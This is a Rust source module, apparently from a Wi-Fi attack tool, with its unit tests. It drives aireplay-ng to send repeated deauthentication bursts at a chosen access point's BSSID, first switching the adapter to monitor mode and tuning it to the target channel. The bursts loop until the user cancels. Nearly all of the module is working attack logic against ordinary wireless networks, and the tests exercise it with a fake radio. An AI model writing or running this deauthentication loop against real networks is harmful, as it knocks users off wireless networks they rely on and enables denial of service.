//! Deauthentication against one access point, with monitor mode restored
//! afterwards when this session was the one that enabled it.

use crate::display::Presenter;
use crate::interface::{self, resolve_from_listing, WifiInterface};
use crate::parser::AccessPointRecord;
use crate::process::ManagedChild;
use std::io;
use std::time::Duration;
use tokio_util::sync::CancellationToken;

pub const DEAUTH_TOOL: &str = "aireplay-ng";

/// The external tools the attack drives.
///
/// `enable_monitor` and `deauth_burst` report a missing tool as
/// `io::ErrorKind::NotFound`.
#[allow(async_fn_in_trait)]
pub trait RadioControl {
    fn enable_monitor(&self, interface: &str) -> io::Result<()>;

    fn disable_monitor(&self, interface: &str) -> io::Result<()>;

    fn is_monitor_mode(&self, interface: &str) -> bool;

    /// Current `ip link show` output.
    fn link_listing(&self) -> String;

    fn set_channel(&self, interface: &str, channel: &str) -> io::Result<()>;

    fn set_channel_legacy(&self, interface: &str, channel: &str) -> io::Result<()>;

    /// One deauthentication burst; returns early when `cancel` fires.
    async fn deauth_burst(
        &self,
        interface: &str,
        bssid: &str,
        cancel: &CancellationToken,
    ) -> io::Result<()>;
}

/// airmon-ng, iw/iwconfig and aireplay-ng.
pub struct AircrackSuite {
    /// Frames per burst, 0 keeps sending until stopped.
    pub deauth_count: u32,
    pub grace: Duration,
}

impl Default for AircrackSuite {
    fn default() -> Self {
        AircrackSuite {
            deauth_count: 0,
            grace: Duration::from_secs(3),
        }
    }
}

/// Attack pacing and tool settings gathered from the command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackConfig {
    /// Pause between deauth bursts.
    pub interval: Duration,
    pub deauth_count: u32,
    /// How long a stopped aireplay-ng gets before it is killed.
    pub grace: Duration,
}

impl Default for AttackConfig {
    fn default() -> Self {
        AttackConfig {
            interval: Duration::from_secs(2),
            deauth_count: 0,
            grace: Duration::from_secs(3),
        }
    }
}

impl AttackConfig {
    pub fn radio(&self) -> AircrackSuite {
        AircrackSuite {
            deauth_count: self.deauth_count,
            grace: self.grace,
        }
    }
}

impl RadioControl for AircrackSuite {
    fn enable_monitor(&self, interface: &str) -> io::Result<()> {
        WifiInterface::new(interface).set_monitor_mode()
    }

    fn disable_monitor(&self, interface: &str) -> io::Result<()> {
        WifiInterface::new(interface).set_managed_mode()
    }

    fn is_monitor_mode(&self, interface: &str) -> bool {
        WifiInterface::new(interface).is_monitor_mode()
    }

    fn link_listing(&self) -> String {
        interface::link_listing()
    }

    fn set_channel(&self, interface: &str, channel: &str) -> io::Result<()> {
        WifiInterface::new(interface).set_channel(channel)
    }

    fn set_channel_legacy(&self, interface: &str, channel: &str) -> io::Result<()> {
        WifiInterface::new(interface).set_channel_legacy(channel)
    }

    async fn deauth_burst(
        &self,
        interface: &str,
        bssid: &str,
        cancel: &CancellationToken,
    ) -> io::Result<()> {
        let args = vec![
            "--deauth".to_string(),
            self.deauth_count.to_string(),
            "-a".to_string(),
            bssid.to_string(),
            interface.to_string(),
        ];
        let mut child = ManagedChild::spawn(DEAUTH_TOOL, &args, false)?;

        tokio::select! {
            status = child.wait() => {
                let status = status?;
                if status.success() {
                    Ok(())
                } else {
                    Err(io::Error::new(
                        io::ErrorKind::Other,
                        format!("{} exited with {}", DEAUTH_TOOL, status),
                    ))
                }
            }
            _ = cancel.cancelled() => {
                child.shutdown(self.grace).await;
                Ok(())
            }
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackTarget {
    pub bssid: String,
    pub channel: String,
    pub essid: String,
}

/// An empty `channel` means airodump-ng never reported a usable one
/// (it writes `-1` before the first beacon is decoded).
impl From<&AccessPointRecord> for AttackTarget {
    fn from(record: &AccessPointRecord) -> Self {
        let channel = match record.channel_number() {
            Some(number) => number.to_string(),
            None => {
                log::warn!("{} has no usable channel ({:?})", record.bssid, record.channel);
                String::new()
            }
        };
        AttackTarget {
            bssid: record.bssid.clone(),
            channel,
            essid: record.display_name().to_string(),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackSession {
    pub bssid: String,
    pub channel: String,
    pub interface: String,
    /// Whether this session switched the adapter into monitor mode.
    pub enabled_monitor: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackOutcome {
    Cancelled,
    ToolMissing,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackReport {
    pub session: AttackSession,
    pub outcome: AttackOutcome,
}

/// Turns monitor mode back off when dropped, if it is ours to turn off.
struct MonitorRestore<'a, R: RadioControl> {
    radio: &'a R,
    interface: String,
    armed: bool,
}

impl<R: RadioControl> Drop for MonitorRestore<'_, R> {
    fn drop(&mut self) {
        if !self.armed {
            return;
        }
        match self.radio.disable_monitor(&self.interface) {
            Ok(()) => log::info!("Monitor mode disabled on {}", self.interface),
            Err(e) => log::warn!("Failed to disable monitor mode on {}: {}", self.interface, e),
        }
    }
}

pub struct AttackController<'a, R: RadioControl, P: Presenter + ?Sized> {
    radio: &'a R,
    presenter: &'a P,
    interval: Duration,
}

impl<'a, R: RadioControl, P: Presenter + ?Sized> AttackController<'a, R, P> {
    pub fn new(radio: &'a R, presenter: &'a P, interval: Duration) -> Self {
        AttackController {
            radio,
            presenter,
            interval,
        }
    }

    fn prepare_monitor(&self, interface: &str) -> (String, bool) {
        let existing = resolve_from_listing(interface, &self.radio.link_listing());
        if self.radio.is_monitor_mode(&existing) {
            log::info!("{} is already in monitor mode", existing);
            return (existing, false);
        }

        self.presenter.warn("Preparing monitor mode...");
        let enabled = match self.radio.enable_monitor(interface) {
            Ok(()) => true,
            Err(e) if e.kind() == io::ErrorKind::NotFound => {
                self.presenter.error(
                    "airmon-ng not found, continuing as-is (monitor mode must be enabled manually).",
                );
                false
            }
            Err(e) => {
                log::warn!("airmon-ng start {} failed: {}", interface, e);
                self.presenter
                    .error("Could not enable monitor mode, capture may not work.");
                false
            }
        };

        let resolved = resolve_from_listing(interface, &self.radio.link_listing());
        (resolved, enabled)
    }

    fn tune(&self, interface: &str, channel: &str) {
        if let Err(e) = self.radio.set_channel(interface, channel) {
            log::debug!("iw could not set channel {}: {}", channel, e);
            if let Err(e) = self.radio.set_channel_legacy(interface, channel) {
                log::warn!("Could not set {} to channel {}: {}", interface, channel, e);
            }
        }
    }

    /// Sends deauth bursts at `target` until `cancel` fires or the deauth
    /// tool turns out to be missing.
    pub async fn run(
        &self,
        interface: &str,
        target: &AttackTarget,
        cancel: CancellationToken,
    ) -> AttackReport {
        self.presenter.clear();
        self.presenter.info("=== Deauth mode ===");
        self.presenter.info(&format!("Target  : {} ({})", target.essid, target.bssid));
        self.presenter.info(&format!("Channel : {}", target.channel));
        self.presenter.info(&format!("Adapter : {}\n", interface));

        let (mon_interface, enabled_monitor) = self.prepare_monitor(interface);
        let _restore = MonitorRestore {
            radio: self.radio,
            interface: mon_interface.clone(),
            armed: enabled_monitor,
        };
        self.presenter.success(&format!("Using interface: {}", mon_interface));

        if target.channel.is_empty() {
            self.presenter
                .warn("Channel unknown, staying on the adapter's current channel.");
        } else {
            self.tune(&mon_interface, &target.channel);
        }

        self.presenter.warn("Running deauth attack (Ctrl+C to stop)...\n");
        let outcome = self.disrupt(&mon_interface, &target.bssid, &cancel).await;
        match outcome {
            AttackOutcome::Cancelled => self.presenter.warn("Deauth stopped by user."),
            AttackOutcome::ToolMissing => self.presenter.error(
                "aireplay-ng not found on this system. Install the aircrack-ng package.",
            ),
        }
        if enabled_monitor {
            self.presenter.success("Disabling monitor mode, back to managed mode.");
        }

        AttackReport {
            session: AttackSession {
                bssid: target.bssid.clone(),
                channel: target.channel.clone(),
                interface: mon_interface,
                enabled_monitor,
            },
            outcome,
        }
    }

    async fn disrupt(
        &self,
        interface: &str,
        bssid: &str,
        cancel: &CancellationToken,
    ) -> AttackOutcome {
        loop {
            if cancel.is_cancelled() {
                return AttackOutcome::Cancelled;
            }

            match self.radio.deauth_burst(interface, bssid, cancel).await {
                Ok(()) => {}
                Err(e) if e.kind() == io::ErrorKind::NotFound => {
                    return AttackOutcome::ToolMissing;
                }
                Err(e) => log::warn!("Deauth burst failed, retrying: {}", e),
            }

            tokio::select! {
                _ = cancel.cancelled() => return AttackOutcome::Cancelled,
                _ = tokio::time::sleep(self.interval) => {}
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::cell::{Cell, RefCell};

    const LINKS: &str = "\
1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN
3: wlan0: <BROADCAST,MULTICAST> mtu 1500 qdisc noop state DOWN
";
    const LINKS_WITH_MON: &str = "\
1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN
4: wlan0mon: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc mq state UNKNOWN
";

    /// Scripted radio: records every call and plays back burst results.
    struct FakeRadio {
        monitor_already: bool,
        airmon_present: bool,
        iw_present: bool,
        bursts: RefCell<Vec<io::Result<()>>>,
        cancel_after_bursts: Option<(usize, CancellationToken)>,
        monitor_on: Cell<bool>,
        calls: RefCell<Vec<String>>,
    }

    impl FakeRadio {
        fn new() -> Self {
            FakeRadio {
                monitor_already: false,
                airmon_present: true,
                iw_present: true,
                bursts: RefCell::new(Vec::new()),
                cancel_after_bursts: None,
                monitor_on: Cell::new(false),
                calls: RefCell::new(Vec::new()),
            }
        }

        fn calls(&self) -> Vec<String> {
            self.calls.borrow().clone()
        }

        fn record(&self, call: String) {
            self.calls.borrow_mut().push(call);
        }

        fn burst_count(&self) -> usize {
            self.calls.borrow().iter().filter(|c| c.starts_with("deauth")).count()
        }
    }

    impl RadioControl for FakeRadio {
        fn enable_monitor(&self, interface: &str) -> io::Result<()> {
            self.record(format!("enable {}", interface));
            if !self.airmon_present {
                return Err(io::Error::new(io::ErrorKind::NotFound, "airmon-ng"));
            }
            self.monitor_on.set(true);
            Ok(())
        }

        fn disable_monitor(&self, interface: &str) -> io::Result<()> {
            self.record(format!("disable {}", interface));
            self.monitor_on.set(false);
            Ok(())
        }

        fn is_monitor_mode(&self, interface: &str) -> bool {
            self.record(format!("query {}", interface));
            self.monitor_already || self.monitor_on.get()
        }

        fn link_listing(&self) -> String {
            if self.monitor_already || self.monitor_on.get() {
                LINKS_WITH_MON.to_string()
            } else {
                LINKS.to_string()
            }
        }

        fn set_channel(&self, interface: &str, channel: &str) -> io::Result<()> {
            self.record(format!("iw {} {}", interface, channel));
            if self.iw_present {
                Ok(())
            } else {
                Err(io::Error::new(io::ErrorKind::NotFound, "iw"))
            }
        }

        fn set_channel_legacy(&self, interface: &str, channel: &str) -> io::Result<()> {
            self.record(format!("iwconfig {} {}", interface, channel));
            Ok(())
        }

        async fn deauth_burst(
            &self,
            interface: &str,
            bssid: &str,
            _cancel: &CancellationToken,
        ) -> io::Result<()> {
            self.record(format!("deauth {} {}", interface, bssid));
            if let Some((limit, token)) = &self.cancel_after_bursts {
                if self.burst_count() >= *limit {
                    token.cancel();
                }
            }
            let mut bursts = self.bursts.borrow_mut();
            if bursts.is_empty() {
                Ok(())
            } else {
                bursts.remove(0)
            }
        }
    }

    struct Silent;

    impl Presenter for Silent {
        fn info(&self, _message: &str) {}
    }

    fn target() -> AttackTarget {
        AttackTarget {
            bssid: "AA:BB:CC:DD:EE:01".to_string(),
            channel: "6".to_string(),
            essid: "HomeNet".to_string(),
        }
    }

    #[tokio::test(start_paused = true)]
    async fn test_enabled_monitor_is_restored_on_cancel() {
        let cancel = CancellationToken::new();
        let mut radio = FakeRadio::new();
        radio.cancel_after_bursts = Some((3, cancel.clone()));
        let controller = AttackController::new(&radio, &Silent, Duration::from_secs(2));

        let report = controller.run("wlan0", &target(), cancel).await;

        assert_eq!(report.outcome, AttackOutcome::Cancelled);
        assert!(report.session.enabled_monitor);
        assert_eq!(report.session.interface, "wlan0mon");
        assert_eq!(radio.burst_count(), 3);
        assert_eq!(radio.calls().last().map(String::as_str), Some("disable wlan0mon"));
        assert!(!radio.monitor_on.get());
    }

    #[tokio::test(start_paused = true)]
    async fn test_existing_monitor_mode_is_left_alone() {
        let cancel = CancellationToken::new();
        let mut radio = FakeRadio::new();
        radio.monitor_already = true;
        radio.cancel_after_bursts = Some((2, cancel.clone()));
        let controller = AttackController::new(&radio, &Silent, Duration::from_secs(2));

        let report = controller.run("wlan0", &target(), cancel).await;

        assert_eq!(report.outcome, AttackOutcome::Cancelled);
        assert!(!report.session.enabled_monitor);
        let calls = radio.calls();
        assert!(calls.iter().all(|c| !c.starts_with("enable")));
        assert!(calls.iter().all(|c| !c.starts_with("disable")));
    }

    #[tokio::test(start_paused = true)]
    async fn test_missing_airmon_proceeds_without_restore() {
        let cancel = CancellationToken::new();
        let mut radio = FakeRadio::new();
        radio.airmon_present = false;
        radio.cancel_after_bursts = Some((1, cancel.clone()));
        let controller = AttackController::new(&radio, &Silent, Duration::from_secs(2));

        let report = controller.run("wlan0", &target(), cancel).await;

        assert!(!report.session.enabled_monitor);
        assert_eq!(report.session.interface, "wlan0");
        assert!(radio.calls().contains(&"deauth wlan0 AA:BB:CC:DD:EE:01".to_string()));
        assert!(radio.calls().iter().all(|c| !c.starts_with("disable")));
    }

    #[tokio::test(start_paused = true)]
    async fn test_missing_deauth_tool_aborts_and_restores() {
        let radio = FakeRadio::new();
        radio
            .bursts
            .borrow_mut()
            .push(Err(io::Error::new(io::ErrorKind::NotFound, "aireplay-ng")));
        let controller = AttackController::new(&radio, &Silent, Duration::from_secs(2));

        let report = controller
            .run("wlan0", &target(), CancellationToken::new())
            .await;

        assert_eq!(report.outcome, AttackOutcome::ToolMissing);
        assert_eq!(radio.burst_count(), 1);
        assert_eq!(radio.calls().last().map(String::as_str), Some("disable wlan0mon"));
    }

    #[tokio::test(start_paused = true)]
    async fn test_transient_burst_failures_are_retried() {
        let cancel = CancellationToken::new();
        let mut radio = FakeRadio::new();
        radio.bursts = RefCell::new(vec![
            Err(io::Error::new(io::ErrorKind::Other, "exit 1")),
            Err(io::Error::new(io::ErrorKind::Other, "exit 1")),
        ]);
        radio.cancel_after_bursts = Some((4, cancel.clone()));
        let controller = AttackController::new(&radio, &Silent, Duration::from_secs(2));

        let report = controller.run("wlan0", &target(), cancel).await;

        assert_eq!(report.outcome, AttackOutcome::Cancelled);
        assert_eq!(radio.burst_count(), 4);
    }

    #[tokio::test(start_paused = true)]
    async fn test_channel_falls_back_to_iwconfig() {
        let cancel = CancellationToken::new();
        let mut radio = FakeRadio::new();
        radio.iw_present = false;
        radio.cancel_after_bursts = Some((1, cancel.clone()));
        let controller = AttackController::new(&radio, &Silent, Duration::from_secs(2));

        controller.run("wlan0", &target(), cancel).await;

        let calls = radio.calls();
        let iw = calls.iter().position(|c| c == "iw wlan0mon 6").unwrap();
        let legacy = calls.iter().position(|c| c == "iwconfig wlan0mon 6").unwrap();
        assert!(iw < legacy);
    }

    #[tokio::test]
    async fn test_cancelled_before_first_burst() {
        let radio = FakeRadio::new();
        let cancel = CancellationToken::new();
        cancel.cancel();
        let controller = AttackController::new(&radio, &Silent, Duration::from_secs(2));

        let report = controller.run("wlan0", &target(), cancel).await;

        assert_eq!(report.outcome, AttackOutcome::Cancelled);
        assert_eq!(radio.burst_count(), 0);
        assert_eq!(radio.calls().last().map(String::as_str), Some("disable wlan0mon"));
    }

    #[test]
    fn test_unknown_channel_is_left_blank() {
        let record = AccessPointRecord {
            bssid: "AA:BB:CC:DD:EE:03".to_string(),
            channel: "-1".to_string(),
            essid: "Office".to_string(),
            ..Default::default()
        };
        assert_eq!(AttackTarget::from(&record).channel, "");
    }

    #[tokio::test(start_paused = true)]
    async fn test_unknown_channel_skips_tuning() {
        let cancel = CancellationToken::new();
        let mut radio = FakeRadio::new();
        radio.cancel_after_bursts = Some((1, cancel.clone()));
        let controller = AttackController::new(&radio, &Silent, Duration::from_secs(2));
        let target = AttackTarget {
            channel: String::new(),
            ..target()
        };

        let report = controller.run("wlan0", &target, cancel).await;

        assert_eq!(report.outcome, AttackOutcome::Cancelled);
        assert!(!radio
            .calls()
            .iter()
            .any(|c| c.starts_with("iw ") || c.starts_with("iwconfig ")));
        assert_eq!(radio.burst_count(), 1);
    }

    #[test]
    fn test_config_builds_suite() {
        let config = AttackConfig {
            deauth_count: 10,
            ..Default::default()
        };
        let suite = config.radio();
        assert_eq!(suite.deauth_count, 10);
        assert_eq!(suite.grace, Duration::from_secs(3));
    }

    #[test]
    fn test_target_from_record() {
        let record = AccessPointRecord {
            bssid: "AA:BB:CC:DD:EE:02".to_string(),
            channel: "11".to_string(),
            ..Default::default()
        };
        let target = AttackTarget::from(&record);
        assert_eq!(target.essid, "<hidden>");
        assert_eq!(target.channel, "11");
    }
}
